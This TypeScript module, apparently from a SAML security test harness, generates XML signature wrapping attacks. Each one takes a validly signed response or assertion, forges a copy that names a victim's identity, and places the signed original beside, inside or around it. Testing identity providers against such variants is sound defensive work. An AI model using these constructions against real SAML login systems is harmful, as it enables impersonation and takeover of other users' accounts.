import { Attack, good, Scene } from './attacks';
import { nameIdXml, newId } from './draft';

const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;
const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;

interface Pieces {
  readonly response: string;
  /** What the provider signed. */
  readonly original: string;
  readonly signature: string;
  /** The same about the victim, without a signature and with an id of its own. */
  readonly evil: string;
}

/** The assertion is signed, and the response is not. */
function piecesOf(scene: Scene): Pieces {
  const response = good(scene, { parts: ['assertion'] });
  const [original] = ASSERTION.exec(response)!;
  const [signature] = SIGNATURE.exec(original)!;
  return { response, original, signature, evil: evilOf(scene, original) };
}

function evilOf({ person, victim }: Scene, assertion: string): string {
  return assertion
    .replace(SIGNATURE, '')
    .replace(/ ID="[^"]+"/, ` ID="${newId()}"`)
    .replace(nameIdXml(person.nameId), nameIdXml(victim.nameId))
    .replaceAll(`${person.nameId}@`, `${victim.nameId}@`);
}

const wrapped =
  (work: (pieces: Pieces) => string): Attack =>
  (scene) => {
    const pieces = piecesOf(scene);
    return pieces.response.replace(pieces.original, () => work(pieces));
  };
const insideSignature = (signature: string, inner: string): string =>
  signature.replace('</ds:Signature>', `<ds:Object>${inner}</ds:Object></ds:Signature>`);
const intoAssertion = (assertion: string, inner: string): string =>
  assertion.replace('</saml:Issuer>', `</saml:Issuer>${inner}`);

/** The response is signed: the whole original is hidden in a response about the victim. */
function withHiddenResponse(scene: Scene, hide: (evil: string, signature: string, original: string) => string): string {
  const response = good(scene, { parts: ['response'] });
  const [signature] = SIGNATURE.exec(response)!;
  const original = response.replace(signature, '');
  const evil = original
    .replace(/ ID="[^"]+"/, ` ID="${newId()}"`)
    .replace(ASSERTION, (assertion) => evilOf(scene, assertion));
  return hide(evil, signature, original);
}

/** What the provider has signed is in the message, and something else is to be read (Somorovsky et al., 2012). */
export const WRAPPING: Readonly<Record<string, Attack>> = {
  'the signed response inside the signature of another one': (scene) =>
    withHiddenResponse(scene, (evil, signature, original) =>
      evil.replace('</saml:Issuer>', `</saml:Issuer>${insideSignature(signature, original)}`),
    ),
  'the signed response beside its signature in another one': (scene) =>
    withHiddenResponse(scene, (evil, signature, original) =>
      evil.replace('</saml:Issuer>', `</saml:Issuer>${original}${signature}`),
    ),
  'the signed response as an extension of another one': (scene) =>
    withHiddenResponse(scene, (evil, signature, original) =>
      evil.replace('</saml:Issuer>', `</saml:Issuer>${signature}<samlp:Extensions>${original}</samlp:Extensions>`),
    ),
  'another assertion before the signed one': wrapped(({ evil, original }) => evil + original),
  'another assertion behind the signed one': wrapped(({ evil, original }) => original + evil),
  'the signed assertion inside another one': wrapped(({ evil, original }) =>
    evil.replace('</saml:Assertion>', `${original}</saml:Assertion>`),
  ),
  'the signature in another assertion, and the signed one behind it': wrapped(
    ({ evil, original, signature }) => intoAssertion(evil, signature) + original.replace(signature, ''),
  ),
  'the signed assertion inside the signature of another one': wrapped(({ evil, original, signature }) =>
    intoAssertion(evil, insideSignature(signature, original.replace(signature, ''))),
  ),
  'another assertion as an extension': wrapped(
    ({ evil, original }) => `<samlp:Extensions>${evil}</samlp:Extensions>${original}`,
  ),
  'the signed assertion as an extension': wrapped(
    ({ evil, original }) => `<samlp:Extensions>${original}</samlp:Extensions>${evil}`,
  ),
  'another assertion inside an object of the signature': wrapped(({ evil, original, signature }) =>
    original.replace(signature, insideSignature(signature, evil)),
  ),
  'another assertion in the advice of the signed one': wrapped(({ evil, original }) =>
    original.replace('</saml:Conditions>', `</saml:Conditions><saml:Advice>${evil}</saml:Advice>`),
  ),
  'another assertion with the id of the signed one': wrapped(({ evil, original }) => {
    const [, id] = / ID="([^"]+)"/.exec(original)!;
    return evil.replace(/ ID="[^"]+"/, ` ID="${id}"`) + original;
  }),
  'another assertion with the id in another spelling': wrapped(({ evil, original, signature }) => {
    const [, id] = / ID="([^"]+)"/.exec(original)!;
    return (
      intoAssertion(evil.replace(/ ID="[^"]+"/, ` ID="${id}"`), signature) +
      original.replace(signature, '').replace(' ID=', ' Id=')
    );
  }),
  'another assertion of another namespace': wrapped(
    ({ evil, original }) => evil.replace('SAML:2.0:assertion"', 'SAML:1.0:assertion"') + original,
  ),
  'another subject inside the signed assertion': wrapped(({ evil, original }) => {
    const [subject] = /<saml:Subject>.*<\/saml:Subject>/s.exec(evil)!;
    return original.replace('<saml:Subject>', `${subject}<saml:Subject>`);
  }),
  'a response inside the response': wrapped(
    ({ evil, original }) => `<samlp:Response>${evil}</samlp:Response>${original}`,
  ),
  'an encrypted assertion': wrapped(
    () => '<saml:EncryptedAssertion><x xmlns="http://www.w3.org/2001/04/xmlenc#"/></saml:EncryptedAssertion>',
  ),
  'an encrypted assertion beside the signed one': wrapped(({ original }) => `<saml:EncryptedAssertion/>${original}`),
  'no assertion': wrapped(() => ''),
};
